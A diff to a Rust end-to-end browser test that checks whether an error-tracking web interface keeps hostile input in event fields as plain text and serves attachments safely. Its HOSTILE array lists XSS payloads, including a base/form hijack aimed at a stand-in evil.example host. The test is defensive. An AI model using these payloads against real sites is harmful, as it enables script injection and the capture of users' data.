@@ -1,5 +1,6 @@
 //! The page, in a real browser: hostile text in every field of events stays text, and what comes in is seen.
 
+use std::collections::BTreeSet;
 use std::io::{Read as _, Write as _};
 use std::net::TcpStream;
 use std::process::{Child, Command, Stdio};
@@ -19,12 +20,45 @@ const HOSTILE: [&str; 12] = [
     "javascript:window.__xss=1//",
     "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
     "<a href=\"javascript:window.__xss=1\" autofocus onfocus=window.__xss=1>x</a>",
-    "<base href=\"https://evil.example/\"><form action=\"https://evil.example/\"><input name=token><button>",
+    "<base href=\"https://evil.example/\"><form action=\"https://evil.example/\"><input name=q><button>",
     "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
     "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
     "{{constructor.constructor('window.__xss=1')()}}${window.__xss=1}",
     "\u{202e}gpj.exe\u{202c}\u{200b}\u{feff}\u{e0041}<details open ontoggle=window.__xss=1>",
     "data:text/html,<script>opener.__xss=1</script>",
+];
+
+/// Fields that must be shown, whatever is in them.
+const SHOWN: [&str; 29] = [
+    "message",
+    "parameter",
+    "cause",
+    "type",
+    "value",
+    "mechanism",
+    "filename",
+    "function",
+    "pre_context",
+    "context_line",
+    "post_context",
+    "var_name",
+    "var_value",
+    "deep_value",
+    "thread",
+    "category",
+    "crumb",
+    "crumb_value",
+    "query_value",
+    "header",
+    "body_value",
+    "username",
+    "tag",
+    "context_value",
+    "extra_value",
+    "server_name",
+    "transaction",
+    "module_version",
+    "comments",
 ];
 
 /// Watches what the page does, from before its first script.
@@ -134,11 +168,11 @@ impl Server {
         serde_json::from_slice(&body).unwrap()
     }
 
-    /// Sends an envelope as an SDK does: a header and items with their payloads.
-    fn ingest(&self, items: &[(Value, Vec<u8>)]) {
+    /// Sends an envelope as an SDK does: the event's id and items with their payloads.
+    fn ingest(&self, event_id: &Value, items: &[(Value, Vec<u8>)]) {
         let dsn = self.ready["projects"]["web"]["dsn"].as_str().unwrap();
         let key = dsn.split(['/', '@']).nth(2).unwrap();
-        let mut envelope = b"{}\n".to_vec();
+        let mut envelope = format!("{}\n", json!({"event_id": event_id})).into_bytes();
         for (header, payload) in items {
             let mut header = header.clone();
             header["length"] = json!(payload.len());
@@ -152,7 +186,8 @@ impl Server {
     }
 
     fn ingest_event(&self, event: &Value) {
-        self.ingest(&[(json!({"type": "event"}), event.to_string().into_bytes())]);
+        let event_id = json!(uuid::Uuid::new_v4().simple().to_string());
+        self.ingest(&event_id, &[(json!({"type": "event"}), event.to_string().into_bytes())]);
     }
 }
 
@@ -215,14 +250,17 @@ fn fill(server: &Server) {
         let event = hostile_event(number, text);
         let id = &event["event_id"];
         let report = json!({"event_id": id, "name": text, "email": "a@example.org", "comments": format!("{text} comments-field")});
-        server.ingest(&[
-            (json!({"type": "event"}), event.to_string().into_bytes()),
-            (
-                json!({"type": "attachment", "filename": format!("{text}.html"), "content_type": "text/html"}),
-                b"<script>window.__xss=1</script>".to_vec(),
-            ),
-        ]);
-        server.ingest(&[(json!({"type": "user_report"}), report.to_string().into_bytes())]);
+        server.ingest(
+            id,
+            &[
+                (json!({"type": "event"}), event.to_string().into_bytes()),
+                (
+                    json!({"type": "attachment", "filename": format!("{text}.html"), "content_type": "text/html"}),
+                    b"<script>window.__xss=1</script>".to_vec(),
+                ),
+            ],
+        );
+        server.ingest(id, &[(json!({"type": "user_report"}), report.to_string().into_bytes())]);
     }
 }
 
@@ -329,13 +367,17 @@ fn hostile_text_stays_text() {
         visit(&mut browser, &format!("#/issues/{id}"));
         let event = browser.evaluate("document.querySelector('.event-id').textContent");
         let event = event.as_str().unwrap();
-        // It is all there to be read, so that what was not executed was not merely left out.
         let number = usize::from_str_radix(event, 16).unwrap() - 1;
+        // It is all there to be read, so that what was not executed was not merely left out.
         let seen = browser.evaluate("document.querySelector('main').textContent.match(/[a-z_]+-field/g)");
-        let mut seen: Vec<&str> = seen.as_array().unwrap().iter().filter_map(Value::as_str).collect();
-        seen.sort_unstable();
-        seen.dedup();
-        assert!(seen.len() > 55, "{}: {seen:?}", HOSTILE[number]);
+        let seen: BTreeSet<&str> = seen.as_array().unwrap().iter().filter_map(Value::as_str).collect();
+        let missing: Vec<_> = SHOWN.iter().filter(|field| !seen.contains(format!("{field}-field").as_str())).collect();
+        assert!(missing.is_empty(), "{}: {missing:?} are not shown", HOSTILE[number]);
+        let file = browser.evaluate(
+            "fetch(document.querySelector('.files a').href).then(({ headers }) =>
+                [headers.get('content-disposition').split(';')[0], headers.get('x-content-type-options')])",
+        );
+        assert_eq!(file, json!(["attachment", "nosniff"]));
         visit(&mut browser, &format!("#/issues/{id}/events/{event}"));
         visit(&mut browser, &format!("#/events/web/{event}"));
     }
